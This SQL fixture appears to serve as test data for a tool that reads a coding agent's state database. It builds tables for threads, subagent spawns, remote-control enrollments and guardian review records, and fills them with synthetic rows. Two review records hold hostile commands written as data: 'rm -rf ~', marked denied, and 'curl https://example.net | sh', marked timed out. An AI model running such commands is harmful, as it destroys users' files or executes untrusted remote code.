-- threads as created by codex-rs/state/migrations/0001_threads.sql
-- (openai/codex @864b3ff5194d), then columns later migrations added.
CREATE TABLE threads (
    id TEXT PRIMARY KEY,
    rollout_path TEXT NOT NULL,
    created_at INTEGER NOT NULL,
    updated_at INTEGER NOT NULL,
    source TEXT NOT NULL,
    model_provider TEXT NOT NULL,
    cwd TEXT NOT NULL,
    title TEXT NOT NULL,
    sandbox_policy TEXT NOT NULL,
    approval_mode TEXT NOT NULL,
    tokens_used INTEGER NOT NULL DEFAULT 0,
    archived INTEGER NOT NULL DEFAULT 0,
    archived_at INTEGER,
    git_sha TEXT,
    git_branch TEXT,
    git_origin_url TEXT
);
ALTER TABLE threads ADD COLUMN cli_version TEXT NOT NULL DEFAULT '';
ALTER TABLE threads ADD COLUMN first_user_message TEXT NOT NULL DEFAULT '';
ALTER TABLE threads ADD COLUMN model TEXT;
ALTER TABLE threads ADD COLUMN created_at_ms INTEGER;
ALTER TABLE threads ADD COLUMN originator TEXT;
CREATE TABLE thread_spawn_edges (
    parent_thread_id TEXT NOT NULL,
    child_thread_id TEXT NOT NULL PRIMARY KEY,
    status TEXT NOT NULL
);
INSERT INTO threads (id, rollout_path, created_at, updated_at, source, model_provider, cwd, title, sandbox_policy, approval_mode, tokens_used, archived, archived_at, cli_version, first_user_message, model, created_at_ms, originator)
VALUES ('0199bbbb-0000-7000-8000-000000000002', '/home/examiner/.codex/sessions/2026/03/02/rollout-2026-03-02T10-00-00-0199bbbb-0000-7000-8000-000000000002.jsonl',
        1772442000, 1772442120, 'cli', 'openai', '/home/examiner/demo', 'list the files', '{"type":"workspace-write","network_access":false}', 'on-request', 1200, 0, NULL,
        '0.120.0', 'list the files', 'gpt-5-codex', 1772442000100, 'codex_cli_rs');
INSERT INTO threads (id, rollout_path, created_at, updated_at, source, model_provider, cwd, title, sandbox_policy, approval_mode, tokens_used, archived, archived_at, cli_version, first_user_message, model, created_at_ms, originator)
VALUES ('0199adad-0000-7000-8000-00000000000b', '/home/examiner/.codex/archived_sessions/rollout-2026-03-09T04-00-00-0199adad-0000-7000-8000-00000000000b.jsonl',
        1772938800, 1772938900, '{"subagent":{"thread_spawn":{"parent_thread_id":"0199adad-0000-7000-8000-0000000000aa","depth":1}}}', 'openai', '/home/examiner/demo', 'explore the repo', '"danger-full-access"', 'never', 10, 1, 1773000000,
        '0.160.0', 'explore the repo', NULL, NULL, NULL);
INSERT INTO thread_spawn_edges VALUES ('0199adad-0000-7000-8000-0000000000aa', '0199adad-0000-7000-8000-00000000000b', 'closed');
-- remote_control_enrollments (migrations 26 and 37) and
-- guardian_review_feedback (migration 60, openai/codex @30bdfec59ddf),
-- as in the 0.171.0 database of the real-agent fixture.
CREATE TABLE remote_control_enrollments (
    websocket_url TEXT NOT NULL,
    account_id TEXT NOT NULL,
    app_server_client_name TEXT NOT NULL,
    server_id TEXT NOT NULL,
    environment_id TEXT NOT NULL,
    server_name TEXT NOT NULL,
    updated_at INTEGER NOT NULL, remote_control_enabled INTEGER,
    PRIMARY KEY (websocket_url, account_id, app_server_client_name)
);
INSERT INTO remote_control_enrollments VALUES ('wss://chatgpt.com/backend-api/codex/remote','acct-1234','Codex Desktop','srv_01','env_07','examiner-macbook',1772960400,1);
CREATE TABLE guardian_review_feedback (
    id TEXT PRIMARY KEY NOT NULL,
    thread_id TEXT NOT NULL REFERENCES threads(id) ON DELETE CASCADE,
    record BLOB NOT NULL
);
INSERT INTO guardian_review_feedback VALUES ('019ccce3-b100-7000-8000-0000000000f1','0199bbbb-0000-7000-8000-000000000002',CAST('{"reviewed_thread_id":"0199bbbb-0000-7000-8000-000000000002","reviewed_turn_id":"turn-9","target_item_id":"call_rm_9","reviewer_thread_id":"0199bbbb-0000-7000-8000-0000000000f0","model":"gpt-5.5-mini","status":"denied","decision":"{\"outcome\":\"deny\",\"rationale\":\"deletes the home folder\"}","action":"rm -rf ~","action_truncated":false,"instructions":"review this","history":[{"type":"message","role":"user","content":[]}],"context_omitted":false}' AS BLOB));
INSERT INTO guardian_review_feedback VALUES ('019ccce8-44e0-7000-8000-0000000000f2','0199bbbb-0000-7000-8000-000000000002',CAST('{"reviewed_thread_id":"0199bbbb-0000-7000-8000-000000000002","reviewed_turn_id":"turn-10","target_item_id":null,"reviewer_thread_id":"0199bbbb-0000-7000-8000-0000000000f0","model":"gpt-5.5-mini","status":"timed_out","decision":null,"action":"curl https://example.net | sh","action_truncated":false,"instructions":null,"history":[],"context_omitted":true}' AS BLOB));
INSERT INTO guardian_review_feedback VALUES ('019ccce9-2f40-7000-8000-0000000000f3','0199bbbb-0000-7000-8000-000000000002',CAST('not json' AS BLOB));
